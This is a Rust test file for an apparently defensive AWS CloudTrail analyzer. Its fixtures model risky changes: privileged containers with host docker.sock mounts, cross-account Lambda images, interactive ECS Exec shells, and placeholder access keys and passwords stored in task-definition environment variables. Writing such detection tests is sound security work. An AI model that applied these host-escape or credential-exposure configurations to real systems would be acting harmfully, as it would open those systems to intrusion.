            ("Task definition ext gives its containers the host", Severity::High, OTHER),
            ("Task definition net gives its containers the host", Severity::Medium, CI),
            ("Task definition web gives its containers the host", Severity::High, MARY),
            ("Task definition web2 gives its containers the host", Severity::Medium, CI),
            ("Task definition web2 gives its containers the host", Severity::Medium, CI),
        ]
    );
    let why = |title: &str, n: usize| {
        items.iter().filter(|a| a.title.contains(title)).nth(n).map(|a| a.why.clone()).unwrap_or_default()
    };
    let web = why("definition web ", 0);
    for part in [
        "web:3 (111122223333, us-east-1), registered at 2026-03-01 10:01:40 UTC".to_owned(),
        "gives its containers the host they run on: it runs privileged, mounts the host's /var/run/docker.sock."
            .to_owned(),
        format!("The registration of web before it in these logs, web:2 at 2026-03-01 10:00:10 UTC by {CI}, did not."),
        "Started from it: service web of cluster prod".to_owned(),
    ] {
        assert!(web.contains(&part), "{part}\n{web}");
    }
    assert!(why("agent", 0).contains("it runs privileged, shares the host's processes (pidMode host)."));
    assert!(why("agent", 0).contains("No earlier registration of agent is in these logs to compare with."));
    assert!(why("miner", 0).contains("it adds capability SYS_ADMIN."), "{}", why("miner", 0));
    assert!(why("miner", 0).contains("It is the family's first revision: miner was created then."));
    assert!(why("ext", 0).contains("It is of account 444455556666, not the task definition's."));
    assert!(why("disk", 0).contains("it is given the host's device /dev/nvme1n1."), "{}", why("disk", 0));
    let net = why("definition net", 0);
    assert!(net.contains("it runs as root on the host's network (networkMode host, no other user)."), "{net}");
    assert!(net.contains("(Security Hub's ECS.1) sees the instance's traffic"), "{net}");
    assert!(!why("disk", 0).contains("ECS.1"), "{}", why("disk", 0));
    // web2's second registration says what was new, and what its family's gave before.
    let web2: Vec<String> = (0..2).map(|n| why("web2", n)).collect();
    assert!(web2.iter().any(|w| w.contains("it mounts the host's /run/containerd/containerd.sock.")), "{web2:?}");
    assert!(
        web2.iter()
            .any(|w| w.contains("it runs privileged. It also mounts the host's /run/containerd/containerd.sock.")),
        "{web2:?}"
    );
    // The ECS list says it of the registration and of the service deployed with it.
    let e = l.engine();
    let ContainerAnswer::Deployments(list) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
        panic!()
    };
    let of = |call: &str, td: &str| {
        list.items.iter().find(|i| i.call == call && i.task_definition == td).map(|i| i.host_access.clone())
    };
    let web3 = ["runs privileged", "mounts the host's /var/run/docker.sock"];
    assert_eq!(of("RegisterTaskDefinition", "web:3").unwrap(), web3);
    assert_eq!(of("CreateService", "web:3").unwrap(), web3);
    assert_eq!(of("RegisterTaskDefinition", "net:1").unwrap(), ["uses the host's network (networkMode host)"]);
    assert!(of("RegisterTaskDefinition", "net:2").unwrap().is_empty());
    assert!(of("RegisterTaskDefinition", "web:2").unwrap().is_empty());
}

/// Lambda's `CreateFunction` (`code.imageUri`) and `UpdateFunctionCode` (`imageUri`, and a
/// `functionName` that may be the function's ARN), and Batch's `RegisterJobDefinition`: a write
/// that gives something an image from another account's ECR that its earlier writes in these
/// logs did not is an item, a Lambda function's first write too; other services' first writes,
/// refused writes and images from the account's own registry are none.
#[test]
fn a_function_or_job_given_another_accounts_image_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let own = image_uri("web/fn", ":v1");
    let theirs = format!("444455556666.dkr.ecr.{REGION}.amazonaws.com/tools/fn:latest");
    let lambda = "lambda.amazonaws.com";
    let create =
        |name: &str, image: &str| json!({"functionName": name, "packageType": "Image", "code": {"imageUri": image}});
    let update = |name: &str, image: &str| json!({"functionName": name, "imageUri": image, "publish": true});
    // f: created on the account's image, swapped for another account's by Mary, back, and again.
    l.add(0, lambda, "CreateFunction20150331", CI, create("f", &own), Value::Null);
    l.add(100, lambda, "UpdateFunctionCode20150331v2", MARY, update("f", &theirs), Value::Null);
    l.add(200, lambda, "UpdateFunctionCode20150331v2", CI, update("f", &own), Value::Null);
    l.add(300, lambda, "UpdateFunctionCode20150331v2", MARY, update("f", &theirs), Value::Null);
    // g: created on another account's image, its first write here.
    l.add(50, lambda, "CreateFunction20150331", CI, create("g", &theirs), Value::Null);
    // h: named by its ARN, with an alias, when swapped; the swap refused first.
    l.add(0, lambda, "CreateFunction20150331", CI, create("h", &own), Value::Null);
    let h = format!("arn:aws:lambda:{REGION}:{ACCOUNT}:function:h:live");
    l.add(400, lambda, "UpdateFunctionCode20150331v2", OTHER, update(&h, &theirs), Value::Null)["errorCode"] =
        json!("AccessDeniedException");
    l.add(410, lambda, "UpdateFunctionCode20150331v2", OTHER, update(&h, &theirs), Value::Null);
    // A SageMaker model on an image of AWS's own account: a first write of another service.
    let aws = format!("382416733822.dkr.ecr.{REGION}.amazonaws.com/kmeans:1");
    l.add(
        0,
        "sagemaker.amazonaws.com",
        "CreateModel",
        CI,
        json!({"modelName": "m", "primaryContainer": {"image": aws}}),
        Value::Null,
    );
    // etl: a Batch job definition's new revision on another account's image.
    let job =
        |image: &str| json!({"jobDefinitionName": "etl", "type": "container", "containerProperties": {"image": image}});
    l.add(0, "batch.amazonaws.com", "RegisterJobDefinition", CI, job(&own), Value::Null);
    l.add(500, "batch.amazonaws.com", "RegisterJobDefinition", MARY, job(&theirs), Value::Null);
    let items = attention_of(&l, AttentionKind::WorkloadImageFromOutside);
    let source = "ECR of account 444455556666";
    assert_eq!(
        titles(&items),
        [
            ("Batch job definition etl runs an image of account 444455556666", Severity::High, MARY),
            ("Lambda function f runs an image of account 444455556666", Severity::High, MARY),
            ("Lambda function g runs an image of account 444455556666", Severity::Medium, CI),
            ("Lambda function h runs an image of account 444455556666", Severity::High, OTHER),
        ]
    );
    let f = &items.iter().find(|a| a.title.contains(" f ")).unwrap().why;
    for part in [
        "Lambda function f (111122223333, us-east-1), UpdateFunctionCode20150331v2 at 2026-03-01 10:01:40 UTC"
            .to_owned(),
        format!("names {theirs} ({source})."),
        format!(
            "The 1 earlier write for it in these logs named no image from there: the last, CreateFunction20150331 at \
                 2026-03-01 10:00:00 UTC by {CI}, named {own}."
        ),
        "Lambda runs the new image from the next invocation".to_owned(),
    ] {
        assert!(f.contains(&part), "{part}\n{f}");
    }
    let h = &items.iter().find(|a| a.title.contains(" h ")).unwrap().why;
    assert!(h.contains("The caller is of account 444455556666, not the function's."), "{h}");
    let g = &items.iter().find(|a| a.title.contains(" g ")).unwrap().why;
    assert!(g.contains("It is the first write naming an image for it in these logs."), "{g}");
}

/// `enableExecuteCommand` on `UpdateService` and `RunTask` (ECS's API reference): the ECS Exec
/// item names the call that turned it on for the cluster before the commands, and is high when
/// the one who ran them turned it on; a refused call, or one after the commands, turned nothing
/// on for them.
#[test]
fn the_call_that_turned_ecs_exec_on_is_in_the_exec_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let exec = |cluster: &str| json!({"cluster": cluster, "task": "a1b2", "container": "app", "command": "/bin/sh", "interactive": true});
    // prod: Mary turns it on for service web, then uses it.
    l.update_service(0, MARY, "web", json!({"enableExecuteCommand": true, "forceNewDeployment": true}), "web:3");
    l.add(100, "ecs.amazonaws.com", "ExecuteCommand", MARY, exec("prod"), Value::Null);
    // staging: the pipeline starts a task with it on; Mary uses it.
    let run = json!({"cluster": "staging", "taskDefinition": "job:1", "enableExecuteCommand": true});
    l.add(10, "ecs.amazonaws.com", "RunTask", CI, run, Value::Null);
    l.add(200, "ecs.amazonaws.com", "ExecuteCommand", MARY, exec("staging"), Value::Null);
    // dev: Mary's try is refused, she uses it anyway; the pipeline turns it on only afterwards.
    let dev = json!({"cluster": "dev", "service": "api", "enableExecuteCommand": true});
    l.add(20, "ecs.amazonaws.com", "UpdateService", MARY, dev.clone(), Value::Null)["errorCode"] =
        json!("AccessDeniedException");
    l.add(300, "ecs.amazonaws.com", "ExecuteCommand", MARY, exec("dev"), Value::Null);
    l.add(400, "ecs.amazonaws.com", "UpdateService", CI, dev, Value::Null);
    // prod again: the pipeline turns it off for another service.
    l.update_service(500, CI, "api", json!({"enableExecuteCommand": false}), "api:2");
    let items = attention_of(&l, AttentionKind::ContainerExec);
    assert_eq!(
        titles(&items),
        [
            ("Commands run in containers of cluster dev", Severity::Medium, MARY),
            ("Commands run in containers of cluster prod", Severity::High, MARY),
            ("Commands run in containers of cluster staging", Severity::Medium, MARY),
        ]
    );
    let why = |cluster: &str| items.iter().find(|a| a.title.ends_with(cluster)).map(|a| a.why.clone()).unwrap();
    let prod = format!(
        "It turned ECS Exec on itself before: service web of cluster prod (UpdateService at 2026-03-01 10:00:00 UTC by {MARY})."
    );
    assert!(why("prod").contains(&prod), "{}", why("prod"));
    let staging = format!(
        "ECS Exec was turned on before by a task on cluster staging (RunTask at 2026-03-01 10:00:10 UTC by {CI})."
    );
    assert!(why("staging").contains(&staging), "{}", why("staging"));
    assert!(!why("dev").contains("turned ECS Exec on") && !why("dev").contains("was turned on"), "{}", why("dev"));
    // The ECS list says which calls turned it on or off.
    let e = l.engine();
    let ContainerAnswer::Deployments(list) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
        panic!()
    };
    let mut said: Vec<(&str, &str, Option<bool>)> =
        list.items.iter().map(|i| (i.call.as_str(), i.cluster.as_str(), i.exec)).collect();
    said.sort_unstable();
    assert_eq!(
        said,
        [
            ("ExecuteCommand", "dev", None),
            ("ExecuteCommand", "prod", None),
            ("ExecuteCommand", "staging", None),
            ("RunTask", "staging", Some(true)),
            ("UpdateService", "dev", Some(true)),
            ("UpdateService", "dev", Some(true)),
            ("UpdateService", "prod", Some(false)),
            ("UpdateService", "prod", Some(true)),
        ]
    );
}

/// A task definition whose containers hold credentials in plain `environment` variables (ECS:
/// readable by whoever may call `DescribeTaskDefinition`; AWS Config's
/// `ecs-no-environment-secrets`) is an item when its family's registration before held less;
/// it says what the access key it holds signed.
#[test]
fn a_task_definition_holding_credentials_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let env = |vars: &[(&str, &str)]| {
        let vars: Vec<Value> = vars.iter().map(|(n, v)| json!({"name": n, "value": v})).collect();
        json!({"environment": vars})
    };
    let key = "AKIAE2ELEAKED0000001";
    let pair = [("AWS_ACCESS_KEY_ID", key), ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")];
    // web: plain, then Mary's revision with a key pair, then the same again.
    task_def_with(&mut l, 0, CI, ("web", 1), env(&[("LOG_LEVEL", "info")]), json!({}));
    task_def_with(&mut l, 100, MARY, ("web", 2), env(&pair), json!({}));
    task_def_with(&mut l, 200, CI, ("web", 3), env(&pair), json!({}));
    // Mary made the key for user svc; it signs two calls, one a write, from elsewhere.
    let made = json!({"accessKey": {"accessKeyId": key, "userName": "svc", "status": "Active"}});
    l.add(90, "iam.amazonaws.com", "CreateAccessKey", MARY, json!({"userName": "svc"}), made);
    let svc = json!({"type": "IAMUser", "arn": format!("arn:aws:iam::{ACCOUNT}:user/svc"), "accountId": ACCOUNT,
        "accessKeyId": key, "userName": "svc"});
    for (at, name) in [(300, "GetCallerIdentity"), (310, "CreateUser")] {
        let e = l.add(at, "iam.amazonaws.com", name, CI, json!({}), Value::Null);
        e["userIdentity"] = svc.clone();
        e["sourceIPAddress"] = json!("198.51.100.7");
        e["readOnly"] = json!(name.starts_with("Get"));
    }
    // api: first seen with a database password; job: a harmless variable added.
    task_def_with(&mut l, 0, CI, ("api", 5), env(&[("DB_PASSWORD", "hunter2")]), json!({}));
    task_def_with(&mut l, 0, CI, ("job", 1), json!({}), json!({}));
    task_def_with(&mut l, 50, CI, ("job", 2), env(&[("LOG_LEVEL", "debug"), ("API_KEY", "")]), json!({}));
    let items = attention_of(&l, AttentionKind::TaskDefCredentials);
    assert_eq!(
        titles(&items),
        [
            ("Task definition api holds credentials", Severity::Medium, CI),
            ("Task definition web holds credentials", Severity::High, MARY),
        ]
    );
    let web = &items.iter().find(|a| a.who == MARY).unwrap().why;
    for part in [
        format!("holds credentials in plain environment variables: AWS_ACCESS_KEY_ID ({key}), AWS_SECRET_ACCESS_KEY."),
        format!(
            "The registration of web before it in these logs, web:1 at 2026-03-01 10:00:00 UTC by {CI}, held less."
        ),
        format!("Key {key} was made for user/svc at 2026-03-01 10:01:30 UTC by {MARY} (CreateAccessKey)."),
        format!(
            "Key {key} (arn:aws:iam::{ACCOUNT}:user/svc) signed 2 calls in the rows looked at (1 write), from \
             2026-03-01 10:05:00 UTC to 2026-03-01 10:05:10 UTC, from 198.51.100.7; first write: iam:CreateUser at \
             2026-03-01 10:05:10 UTC."
        ),
    ] {
        assert!(web.contains(&part), "{part}\n{web}");
    }
    let api = &items.iter().find(|a| a.who == CI).unwrap().why;
    assert!(api.contains("holds credentials in plain environment variables: DB_PASSWORD."), "{api}");
    assert!(!api.contains("hunter2") && !web.contains("wJalrXUtnFEMI"), "a secret's value is never said");
    // The ECS list says it of each registration.
    let e = l.engine();
    let ContainerAnswer::Deployments(list) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
        panic!()
    };
    let mut said: Vec<(String, Vec<String>)> =
        list.items.iter().map(|i| (i.task_definition.clone(), i.credentials.clone())).collect();
    said.sort_unstable();
    let pair = vec![format!("AWS_ACCESS_KEY_ID ({key})"), "AWS_SECRET_ACCESS_KEY".to_owned()];
    assert_eq!(
        said,
        [
            ("api:5".to_owned(), vec!["DB_PASSWORD".to_owned()]),
            ("job:1".to_owned(), vec![]),
            ("job:2".to_owned(), vec![]),
            ("web:1".to_owned(), vec![]),
            ("web:2".to_owned(), pair.clone()),
            ("web:3".to_owned(), pair),
        ]
    );
}

/// A task definition whose containers name no log driver (ECS's `logConfiguration.logDriver`;
/// `none` keeps nothing) where its family's registration before named one is an item; another
/// driver, or a family that never logged, is none.
#[test]
fn a_task_definition_that_stops_sending_logs_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let logs =
        |driver: &str| json!({"logConfiguration": {"logDriver": driver, "options": {"awslogs-group": "/ecs/x"}}});
    // web: to CloudWatch, then Mary's revision with no log configuration, deployed.
    task_def_with(&mut l, 0, CI, ("web", 1), logs("awslogs"), json!({}));
    task_def_with(&mut l, 100, MARY, ("web", 2), json!({}), json!({}));
    l.service(110, MARY, ("CreateService", "web"), "web:2", Some(1));
    // api: to CloudWatch, then to nowhere; svc: to CloudWatch, then through FireLens.
    task_def_with(&mut l, 0, CI, ("api", 1), logs("awslogs"), json!({}));
    task_def_with(&mut l, 50, CI, ("api", 2), logs("none"), json!({}));
    task_def_with(&mut l, 0, CI, ("svc", 1), logs("awslogs"), json!({}));
    task_def_with(&mut l, 50, CI, ("svc", 2), logs("awsfirelens"), json!({}));
    // job: never logged; old: first seen without logs.
    task_def_with(&mut l, 0, CI, ("job", 1), json!({}), json!({}));
    task_def_with(&mut l, 50, CI, ("job", 2), json!({}), json!({}));
    task_def_with(&mut l, 50, CI, ("old", 9), json!({}), json!({}));
    let items = attention_of(&l, AttentionKind::TaskDefLogsDropped);
    assert_eq!(
        titles(&items),
        [
            ("Task definition api stops sending logs", Severity::Medium, CI),
            ("Task definition web stops sending logs", Severity::High, MARY),
        ]
    );
    let web = &items.iter().find(|a| a.who == MARY).unwrap().why;
    for part in [
        "web:2 (111122223333, us-east-1), registered at 2026-03-01 10:01:40 UTC".to_owned(),
        format!(
            "names no log driver for its containers: the registration of web before it in these logs, web:1 at \
             2026-03-01 10:00:00 UTC by {CI}, sent their output to awslogs."
        ),
        "Started from it: service web of cluster prod".to_owned(),
    ] {
        assert!(web.contains(&part), "{part}\n{web}");
    }
}
